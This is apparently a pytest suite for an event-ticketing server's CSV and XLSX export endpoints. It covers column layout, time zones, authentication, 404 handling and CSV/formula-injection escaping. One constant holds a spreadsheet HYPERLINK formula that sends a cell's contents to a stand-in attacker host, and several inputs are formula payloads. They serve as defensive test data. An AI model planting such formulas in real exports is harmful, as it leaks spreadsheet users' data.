"""Event exports over HTTP: bookings, tickets and check-ins as CSV and XLSX, read back the way a
spreadsheet reads them; formulas stay text, secrets stay out, garbage paths are 404."""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile
from datetime import timedelta
from typing import Any

import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import update

from server.bookings.models import Booking
from server.db import Database, utcnow
from server.exports.writers import XlsxSheet
from server.tickets.models import Ticket
from tests.conftest import problem_of
from tests.factories import booking_body, create_booking, create_event, create_ticket_type
from tests.server.checkin.helpers import create_list, paired_door, redeem

FORMATS = ["csv", "xlsx"]
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Click me")'


def _cells_of_xlsx(data: bytes) -> list[list[str]]:
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0)
    rows = sheet.to_python(skip_empty_area=False)
    return [[_as_text(cell) for cell in row] for row in rows]


def _as_text(cell: object) -> str:
    if isinstance(cell, float) and cell.is_integer():
        return str(int(cell))
    return str(cell)


def _cells_of_csv(data: bytes, delimiter: str = ";") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "a UTF-8 BOM so that Excel reads accents right"
    text = data.decode("utf-8-sig")
    # A 10 MB cell is allowed here; the limit is the process's, so it is given back (the import's
    # CSV reader relies on the default one, and another test of this worker may run next).
    before = csv.field_size_limit(64 * 1024 * 1024)
    try:
        return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    finally:
        csv.field_size_limit(before)


async def export(api: Any, event_id: str, name: str, **params: Any) -> list[dict[str, str]]:
    """The export's rows as dicts by header, whatever its format."""
    response = await api.get(f"/api/v1/events/{event_id}/exports/{name}", params=params)
    assert response.status_code == 200, response.text
    if name.endswith(".xlsx"):
        assert "<f>" not in _sheet_xml(response.content)
        header, *rows = _cells_of_xlsx(response.content)
    else:
        header, *rows = _cells_of_csv(response.content)
    return [dict(zip(header, row, strict=True)) for row in rows]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


async def _change(settings: Any, model: Any, key: str, **values: Any) -> None:
    """Write values the API would refuse (TAB, CR, huge): data from an import or an old version."""
    database = Database(settings.database_url)
    try:
        async with database.transaction() as session:
            await session.execute(update(model).where(model.id == key).values(**values))
    finally:
        await database.dispose()


@pytest.fixture
async def event(api: Any) -> dict[str, Any]:
    """An event with two ticket types and two bookings: one confirmed, one cancelled."""
    event = await create_event(api)
    standard = await create_ticket_type(api, event["id"], name="Standard")
    vip = await create_ticket_type(api, event["id"], name="VIP")
    body = booking_body(standard["id"], 2, confirm=True, external_ref="crm-1")
    body["items"].append({"ticket_type_id": vip["id"], "quantity": 1})
    body["items"][0]["holders"] = [{"name": "Zoë Ångström", "email": "zoe@example.org"}]
    body["items"][0]["holders"].append({"seat": "B12"})
    first = (await api.post(f"/api/v1/events/{event['id']}/bookings", json=body)).json()
    buyer = {"name": "Jürgen Groß", "email": "jg@example.de", "language": "de"}
    second = await create_booking(api, event["id"], vip["id"], 1, buyer=buyer)
    await api.post(f"/api/v1/bookings/{second['id']}/cancel")
    return {"id": event["id"], "slug": event["slug"], "bookings": [first, second]}


@pytest.mark.parametrize("fmt", FORMATS)
async def test_bookings_hold_each_booking_with_its_counts_per_type_and_venue_times(api, event, fmt):
    rows = await export(api, event["id"], f"bookings.{fmt}")
    first, second = event["bookings"]
    assert [r["reference"] for r in rows] == [first["reference"], second["reference"]]
    assert list(rows[0]) == [
        "reference",
        "status",
        "buyer_name",
        "buyer_email",
        "language",
        "tickets: Standard",
        "tickets: VIP",
        "tickets_total",
        "created_at",
        "confirmed_at",
        "cancelled_at",
        "external_ref",
    ]
    assert rows[0] | {"created_at": "", "confirmed_at": ""} == {
        "reference": first["reference"],
        "status": "confirmed",
        "buyer_name": "Camille Martin",
        "buyer_email": "camille@example.org",
        "language": "fr",
        "tickets: Standard": "2",
        "tickets: VIP": "1",
        "tickets_total": "3",
        "created_at": "",
        "confirmed_at": "",
        "cancelled_at": "",
        "external_ref": "crm-1",
    }
    assert (rows[1]["status"], rows[1]["buyer_name"], rows[1]["language"]) == (
        "cancelled",
        "Jürgen Groß",
        "de",
    )
    assert (rows[1]["tickets: Standard"], rows[1]["tickets: VIP"]) == ("0", "1")
    # Europe/Paris in winter: the offset of the venue is written with the time.
    assert rows[0]["created_at"].endswith(("+01:00", "+02:00"))
    assert rows[1]["cancelled_at"].endswith(("+01:00", "+02:00"))


@pytest.mark.parametrize("fmt", FORMATS)
async def test_tickets_hold_holders_seats_states_and_never_a_token_or_link(api, event, fmt):
    response = await api.get(f"/api/v1/events/{event['id']}/exports/tickets.{fmt}")
    rows = await export(api, event["id"], f"tickets.{fmt}")
    tickets = event["bookings"][0]["tickets"] + event["bookings"][1]["tickets"]
    assert [r["code"] for r in rows] == [t["code"] for t in tickets]
    assert list(rows[0]) == [
        "code",
        "ticket_type",
        "holder_name",
        "holder_email",
        "seat",
        "status",
        "blocked",
        "booking_reference",
        "buyer_email",
        "version",
        "entries",
        "inside",
        "first_entry_at",
    ]
    zoe, seated, vip = rows
    assert (zoe["holder_name"], zoe["holder_email"], zoe["ticket_type"]) == (
        "Zoë Ångström",
        "zoe@example.org",
        "Standard",
    )
    assert (seated["seat"], vip["ticket_type"], vip["status"]) == ("B12", "VIP", "valid")
    assert (zoe["blocked"], zoe["version"], zoe["entries"], zoe["inside"]) == (
        "false",
        "1",
        "0",
        "false",
    )
    text = response.content if fmt == "csv" else _sheet_xml(response.content).encode()
    for ticket in tickets:
        assert ticket["token"].encode() not in text
        assert ticket["link"].rsplit("/", 1)[1].encode() not in text


@pytest.mark.parametrize("fmt", FORMATS)
async def test_formula_cells_in_names_seats_and_refs_stay_text_in_both_formats(api, settings, fmt):
    event = await create_event(api)
    ticket_type = await create_ticket_type(api, event["id"], name="=1+1")
    body = booking_body(ticket_type["id"], 3, confirm=True, external_ref="@SUM(A1:A9)")
    body["buyer"]["name"] = HYPERLINK
    body["items"][0]["holders"] = [{"name": "+1", "seat": "-1"}, {"name": "@me"}, {}]
    booking = (await api.post(f"/api/v1/events/{event['id']}/bookings", json=body)).json()
    third = booking["tickets"][2]
    await _change(settings, Ticket, third["id"], holder_name="\t=1+1", seat="\r=2+2")

    bookings = await export(api, event["id"], f"bookings.{fmt}")
    assert bookings[0]["buyer_name"] == "'" + HYPERLINK
    assert bookings[0]["external_ref"] == "'@SUM(A1:A9)"
    assert "tickets: =1+1" in bookings[0]  # not at the start: no formula
    tickets = await export(api, event["id"], f"tickets.{fmt}")
    assert [(t["holder_name"], t["seat"]) for t in tickets] == [
        ("'+1", "'-1"),
        ("'@me", ""),
        ("'\t=1+1", "'\r=2+2"),
    ]
    assert {t["ticket_type"] for t in tickets} == {"'=1+1"}


@pytest.mark.parametrize("fmt", FORMATS)
async def test_unicode_and_huge_values_come_back_whole_or_visibly_cut(api, settings, backend, fmt):
    event = await create_event(api)
    ticket_type = await create_ticket_type(api, event["id"])
    booking = await create_booking(api, event["id"], ticket_type["id"], confirm=True)
    # PostgreSQL keeps the column's bound (200); SQLite stores what it is given: 10 MB.
    name = "Zoë 日本語 🎟 " + "é" * (180 if backend == "postgresql" else 10_000_000)
    await _change(settings, Booking, booking["id"], buyer_name=name)
    [row] = await export(api, event["id"], f"bookings.{fmt}")
    if fmt == "csv" or backend == "postgresql":
        assert row["buyer_name"] == name
    else:  # an XLSX cell holds 32,767 UTF-16 units
        assert row["buyer_name"].startswith("Zoë 日本語 🎟 éé")
        assert row["buyer_name"].endswith("…") and len(row["buyer_name"]) < 32_767


@pytest.mark.parametrize("fmt", FORMATS)
async def test_checkins_list_every_scan_with_its_verdict_forced_and_annulled(api, fmt):
    event = await create_event(api)
    ticket_type = await create_ticket_type(api, event["id"])
    booking = await create_booking(api, event["id"], ticket_type["id"], 2, confirm=True)
    first, second = booking["tickets"]
    gate = await create_list(api, event["id"], name="North gate")
    door = await paired_door(api, event["id"], name="=Door 1", gate="+A")
    code, list_id = first["code"], gate["id"]
    await redeem(api, door, code, list_id, scan_id="s1")
    await redeem(api, door, code, list_id, scan_id="s2")
    late = (utcnow() - timedelta(minutes=5)).isoformat()
    offline = {"offline": True, "verdict": "accepted", "scanned_at": late}
    await redeem(api, door, code, list_id, scan_id="s3", **offline)
    await redeem(api, door, "=HYPERLINK(1)", list_id, scan_id="s4")
    await redeem(api, door, second["code"], list_id, scan_id="s5")
    undo = await api.post("/api/v1/checkin/annul", json={"scan_id": "s5"}, headers=door.headers)
    assert undo.status_code == 200, undo.text

    rows = {r["scan_id"]: r for r in await export(api, event["id"], f"checkins.{fmt}")}
    assert list(rows) == ["s1", "s2", "s3", "s4", "s5"]
    s1, s2, s3, s4, s5 = rows.values()
    assert (s1["verdict"], s1["reason"], s1["ticket_code"], s1["holder_name"]) == (
        "accepted",
        "",
        code,
        "Camille Martin",
    )
    assert (s1["list"], s1["list_id"], s1["device"], s1["gate"]) == (
        "North gate",
        list_id,
        "'=Door 1",
        "'+A",
    )
    assert (s2["verdict"], s2["reason"], s2["forced"]) == ("rejected", "already_redeemed", "false")
    assert (s3["verdict"], s3["forced"], s3["offline"]) == ("accepted", "true", "true")
    assert s3["scanned_at"] < s3["received_at"]
    assert (s4["verdict"], s4["reason"], s4["ticket_code"]) == ("rejected", "invalid", "")
    assert s4["unknown_code"] == "'=HYPERLINK(1)"
    assert (s5["annulled"], s5["annulled_by"] != "") == ("true", True)
    assert s5["annulled_at"].endswith(("+01:00", "+02:00"))
    assert s1["unknown_code"] == "" and s1["received_at"].endswith(("+01:00", "+02:00"))


@pytest.mark.parametrize("name", ["bookings", "tickets", "checkins"])
@pytest.mark.parametrize("fmt", FORMATS)
async def test_an_export_is_an_attachment_never_stored(api, event, name, fmt):
    response = await api.get(f"/api/v1/events/{event['id']}/exports/{name}.{fmt}")
    assert response.status_code == 200
    disposition = f'attachment; filename="{event["slug"]}-{name}.{fmt}"'
    assert response.headers["content-disposition"] == disposition
    assert response.headers["cache-control"] == "no-store"
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    expected = "text/csv; charset=utf-8" if fmt == "csv" else xlsx
    assert response.headers["content-type"] == expected


async def test_an_event_without_data_exports_its_header_alone(api):
    event = await create_event(api)
    for name in ["bookings", "tickets", "checkins"]:
        assert await export(api, event["id"], f"{name}.csv") == []
        assert await export(api, event["id"], f"{name}.xlsx") == []


@pytest.mark.parametrize(("delimiter", "separator"), [("comma", ","), ("tab", "\t")])
async def test_the_csv_separator_can_be_chosen(api, event, delimiter, separator):
    url = f"/api/v1/events/{event['id']}/exports/bookings.csv"
    response = await api.get(url, params={"delimiter": delimiter})
    rows = _cells_of_csv(response.content, separator)
    assert rows[0][:2] == ["reference", "status"] and len(rows) == 3


@pytest.mark.parametrize("value", ["semi", "", ";", "x" * 10_000])
async def test_an_unknown_separator_is_a_problem_not_a_5xx(api, event, value):
    url = f"/api/v1/events/{event['id']}/exports/bookings.csv"
    response = await api.get(url, params={"delimiter": value})
    assert response.status_code == 400
    assert problem_of(response)["code"] == "invalid_parameters"


@pytest.mark.parametrize(
    "export_file",
    [
        "bookings.json",
        "bookings.xls",
        "bookings",
        "bookings.",
        ".csv",
        "BOOKINGS.CSV",
        "bookings.csv.gz",
        "guests.csv",
        "tickets.xlsx%00",
        "x" * 10_000,
    ],
)
async def test_an_unknown_export_or_format_is_404(api, event, export_file):
    response = await api.get(f"/api/v1/events/{event['id']}/exports/{export_file}")
    assert response.status_code == 404
    problem_of(response)


@pytest.mark.parametrize("event_id", ["nope", "%00", "ev%00x", "x" * 10_000, "%FF%FE", "1" * 40])
async def test_an_unknown_event_is_404(api, event_id):
    response = await api.get(f"/api/v1/events/{event_id}/exports/tickets.csv")
    assert response.status_code == 404
    problem_of(response)


async def test_another_events_export_holds_only_its_own_rows(api, event):
    other = await create_event(api, name="Other night")
    assert await export(api, other["id"], "bookings.csv") == []
    assert len(await export(api, event["id"], "bookings.csv")) == 2


@pytest.mark.parametrize("authorization", [None, "Bearer not-a-token", "Basic eDp5"])
async def test_an_export_needs_an_organiser_token(api, event, authorization):
    del api.headers["Authorization"]
    headers = {"Authorization": authorization} if authorization else {}
    response = await api.get(f"/api/v1/events/{event['id']}/exports/tickets.csv", headers=headers)
    assert response.status_code == 401
    problem_of(response)


@pytest.mark.parametrize("backend", ["sqlite"])
async def test_building_an_xlsx_holds_no_write_lock(api, event, settings, monkeypatch):
    """A big XLSX takes seconds to build: meanwhile doors and the outbox must still write."""
    path = settings.database_url.split(":///", 1)[1]
    writes: list[str] = []
    add_rows = XlsxSheet.add_rows

    def add_rows_then_write(sheet: XlsxSheet, rows: Any) -> None:
        connection = sqlite3.connect(path, timeout=0.2, isolation_level=None)
        try:
            connection.execute("BEGIN IMMEDIATE")  # "database is locked" if the export holds it
            connection.execute("ROLLBACK")
            writes.append("ok")
        finally:
            connection.close()
        add_rows(sheet, rows)

    monkeypatch.setattr(XlsxSheet, "add_rows", add_rows_then_write)
    assert len(await export(api, event["id"], "tickets.xlsx")) == 3
    assert writes == ["ok"]
